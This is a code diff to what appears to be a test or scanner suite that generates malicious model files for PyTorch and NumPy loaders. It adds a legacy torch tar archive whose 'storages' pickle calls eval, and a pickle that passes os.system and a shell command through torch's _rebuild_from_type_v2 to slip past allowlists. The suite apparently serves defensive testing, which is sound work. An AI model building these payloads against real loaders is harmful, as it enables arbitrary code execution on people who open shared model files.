@@ -16,6 +16,7 @@ import marshal
 import shlex
 import struct
 import sys
+import tarfile
 import zipfile
 import zlib
 from collections.abc import Callable, Sequence
@@ -347,6 +348,26 @@ def _torch_legacy_keys(t: Trace) -> bytes:
     return _legacy_prelude() + _pickle(EMPTY_DICT) + _pickle(_eval_call(t))
 
 
+def _torch_legacy_tar(t: Trace) -> bytes:
+    """The torch < 0.4 tar format; torch unpickles the ``storages`` member first."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
+        for name, data in (("sys_info", _legacy_prelude()), ("storages", _pickle(_eval_call(t))),
+                           ("tensors", _pickle(_int(0))), ("pickle", _pickle(EMPTY_DICT))):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def _rebuild_from_type(t: Trace) -> bytes:
+    """An allowlisted-looking torch rebuild function handed a malicious callable: it calls func(*args)."""
+    return _pickle(_call(
+        _glob("torch._tensor", "_rebuild_from_type_v2"),
+        _glob("os", "system"), _glob("torch", "Tensor"), _tuple(_s(_shell(t))), EMPTY_DICT,
+    ))
+
+
 def _npy_object(pickled: bytes) -> bytes:
     header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
     pad = -(10 + len(header) + 1) % 64
@@ -657,6 +678,10 @@ ATTACKS: tuple[Attack, ...] = (
            "container", (("builtins", "eval"),), True),
     Attack("torch_legacy_keys", "legacy torch file whose storage-keys pickle calls eval", _torch_legacy_keys,
            "container"),
+    Attack("torch_legacy_tar", "torch < 0.4 tar format whose storages member calls eval", _torch_legacy_tar,
+           "container"),
+    Attack("rebuild_from_type_v2", "torch._tensor._rebuild_from_type_v2(os.system, Tensor, (shell,), {})",
+           _rebuild_from_type, "code", (_SYS,)),
     Attack("numpy_object_npy", ".npy object array whose pickle calls eval", _npy, "container",
            (("builtins", "eval"),), True),
     Attack("numpy_npz", ".npz with a numeric member and an object member whose pickle calls eval", _npz,
